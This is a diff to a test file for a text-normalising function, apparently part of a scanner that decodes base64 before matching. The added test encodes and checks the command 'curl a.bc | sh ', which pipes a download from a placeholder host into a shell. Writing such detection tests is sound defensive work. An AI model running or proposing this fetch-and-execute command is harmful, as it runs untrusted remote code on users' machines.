@@ -16,6 +16,11 @@ describe("normaliseForMatching", () => {
       expect(normaliseForMatching(text)).toBe(`line one\n${before}${DECODED}${after}`);
     }
     expect(normaliseForMatching(ENCODED)).toBe(DECODED);
+    // A run of exactly the shortest length decoded, at every offset a skip search could miss.
+    const shortest = Buffer.from("curl a.bc | sh ").toString("base64");
+    for (let offset = 0; offset < 45; offset++) {
+      expect(normaliseForMatching(`${"w ".repeat(offset)}${shortest}`)).toBe(`${"w ".repeat(offset)}curl a.bc | sh `);
+    }
   });
 
   it("folds look-alike letters found among other non-ASCII text, and leaves other scripts alone", () => {
